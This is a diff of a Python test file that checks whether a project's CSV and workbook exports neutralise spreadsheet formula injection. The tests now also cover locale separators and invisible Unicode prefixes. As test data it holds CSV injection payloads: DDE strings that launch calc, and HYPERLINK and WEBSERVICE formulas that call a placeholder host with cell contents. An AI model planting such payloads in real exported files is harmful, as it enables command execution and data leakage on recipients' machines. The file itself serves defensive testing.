@@ -1,8 +1,9 @@
 # SPDX-License-Identifier: EUPL-1.2
 """No file that leaves the house runs anything in a spreadsheet, and numbers stay numbers in it.
 
-Whatever writes CSV or a workbook is found in the source and has to be tried here, and whatever
-hands a table out has to use one of these writers.
+CSV is written by one function, whose lines are opened here with every separator that a reader's
+locale may use. Whatever writes a workbook is found in the source and has to be tried here, and
+whatever hands a table out has to use one of these writers.
 """
 
 from __future__ import annotations
@@ -11,7 +12,9 @@ import ast
 import csv
 import datetime as dt
 import io
+import random
 import re
+import unicodedata
 from collections.abc import Callable, Iterable, Iterator
 from decimal import Decimal
 from typing import Any
@@ -21,7 +24,7 @@ import pytest
 
 from tests.architecture.sources import ROOT
 from vidik.core.downloads import FORMS, download
-from vidik.core.spreadsheets import disarmed
+from vidik.core.spreadsheets import armed, csv_line, disarmed
 from vidik.figures.methods.formats import Sheet, csv_lines, plain_csv_lines, xlsx_bytes
 from vidik.questionnaires.methods.forms import xlsform_workbook
 from vidik.questionnaires.methods.workbook import write_workbook
@@ -31,7 +34,16 @@ STARTS = ("=", "+", "-", "@", "\t", "\r", "\n=", "＝", "＋", "－", "＠")
 HOSTILE = [f"{start}cmd|' /C calc'!A{at}" for at, start in enumerate(STARTS)] + [
     '=HYPERLINK("http://x.invalid/?"&A1,"open")', "-2+3+cmd|' /C calc'!A0", "+1-1+A1", "@SUM(1+1)",
     '=WEBSERVICE("http://x.invalid")', "\t=1+1", "-", "=", "-1-1", "--1", "-1e9x",
+    " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060@SUM(1+1)",
 ]  # fmt: skip
+SPLIT = [
+    f"x{separator}{space}{sign}cmd|' /C calc'!A0"
+    for separator in (";", ",", "\t", "\n", "\r", "\r\n")
+    for space in ("", " ", "\u00a0", "\u200b", '"', '""', "'")
+    for sign in ("=", "+", "-", "@", "＝")
+]
+"""Texts that hold a formula behind what another locale takes for the end of a cell."""
+HOSTILE += SPLIT[::7]
 NUMBERS = [-3, 0, 17, Decimal("-2.5"), Decimal("1234.25")]
 HARMLESS = ["-3", "-2.5", "-2,5", "-1.096", "-12.5%", "12", "a = b", "mail@x.invalid", ""]
 
@@ -40,10 +52,32 @@ def from_csv(content: bytes) -> Iterator[list[str]]:
     return csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
 
 
+def opened(content: bytes, separator: str) -> Iterator[str]:
+    """Split a file as a spreadsheet does whose locale has that separator."""
+    text = content.decode("utf-8-sig")
+    for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+        yield from line
+    # Some readers end a line or a quoted field wherever a sign for it stands.
+    yield from re.split(rf"[{separator}\r\n]", text.replace('"', ""))
+
+
+def runs(cell: str) -> bool:
+    """Tell whether a spreadsheet would take a cell for a formula."""
+    shown = "".join(
+        sign
+        for sign in cell
+        if sign != '"' and unicodedata.category(sign) not in {"Cf", "Cc", "Zs"}
+    )
+    sign = unicodedata.normalize("NFKC", shown[:1])
+    return sign in {"=", "+", "-", "@"} and not re.fullmatch(r"-?[0-9.,]+%?", shown)
+
+
 def see_csv(content: bytes) -> None:
     cells = [cell for line in from_csv(content) for cell in line]
     assert any("cmd|" in cell for cell in cells), "the hostile text is there"
-    assert [cell for cell in cells if disarmed(cell) != cell] == []
+    assert content.decode("utf-8-sig").startswith('"'), "every field is quoted"
+    for separator in (",", ";", "\t"):
+        assert [cell for cell in opened(content, separator) if runs(cell)] == []
     assert not any(cell.startswith("'-3") or cell == "'-2.5" for cell in cells)
 
 
@@ -170,7 +204,7 @@ HANDS_OUT = {
     "vidik/shell/views_record.py": "vidik/shell/views_record.py",
 }
 NEVER_LEAVES = {
-    # Lines that the figures room reads at once, with every cell as it was answered.
+    # Lines that the figures room reads at once.
     "vidik/questionnaires/services/deciding.py",
 }
 
@@ -181,19 +215,24 @@ def sources() -> Iterable[tuple[str, ast.Module]]:
             yield str(path.relative_to(ROOT)), ast.parse(path.read_text(encoding="utf-8"))
 
 
-def writes_tables(tree: ast.Module) -> bool:
-    """Tell whether a module writes CSV or a workbook by itself."""
-    for node in ast.walk(tree):
-        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
-            owner = node.func.value
-            name = f"{owner.id}.{node.func.attr}" if isinstance(owner, ast.Name) else ""
-            if name in {"csv.writer", "csv.DictWriter", "xlsxwriter.Workbook", "openpyxl.Workbook"}:
-                return True
-    return False
+def calls(tree: ast.Module, names: set[str]) -> bool:
+    """Tell whether a module calls one of these functions, as `a.b` or as the bare name."""
+    return any(
+        isinstance(node, ast.Call)
+        and (ast.unparse(node.func) in names or ast.unparse(node.func).split(".")[-1] in names)
+        for node in ast.walk(tree)
+    )
+
+
+def test_csv_is_written_by_one_function() -> None:
+    writing = {"csv.writer", "csv.DictWriter", "writer", "DictWriter"}
+    assert {name for name, tree in sources() if calls(tree, writing)} == {
+        "vidik/core/spreadsheets.py"
+    }
 
 
 def test_whatever_writes_a_table_is_tried_here() -> None:
-    found = {name for name, tree in sources() if writes_tables(tree)}
+    found = {name for name, tree in sources() if calls(tree, {"csv_line", "Workbook"})}
     assert found == set(WRITERS) | NEVER_LEAVES
 
 
@@ -219,9 +258,26 @@ def test_no_text_is_a_formula_and_no_number_is_a_text(writer: str) -> None:
     WRITERS[writer]()
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_what_begins_like_a_formula_is_disarmed(text: str) -> None:
-    assert disarmed(text) == f"'{text}"
+@pytest.mark.parametrize("text", [*HOSTILE, *SPLIT])
+def test_what_begins_like_a_formula_is_disarmed_wherever_a_cell_may_begin(text: str) -> None:
+    assert disarmed(text).replace("'", "") == text.replace("'", "")
+    assert disarmed(text).count("'") > text.count("'")
+    for place in range(3):
+        cells = ["a", 'b "c"', "d"]
+        cells[place] = text
+        line = csv_line(cells).encode()
+        for separator in (",", ";", "\t"):
+            assert [cell for cell in opened(line, separator) if runs(cell)] == []
+
+
+def test_disarming_is_undone_exactly() -> None:
+    """What a file holds is read back as it was, apostrophes of its own included."""
+    chance = random.Random(7)  # noqa: S311 - a row of texts, the same every time
+    signs = "=+-@＝\t\r\n;,|'\" \u00a0\u200bab1"
+    for _time in range(20_000):
+        text = "".join(chance.choices(signs, k=chance.randrange(9)))
+        assert armed(disarmed(text)) == text
+        assert not any(runs(part) for part in re.split("[;,\t\r\n]", disarmed(text)))
 
 
 @pytest.mark.parametrize("text", HARMLESS)
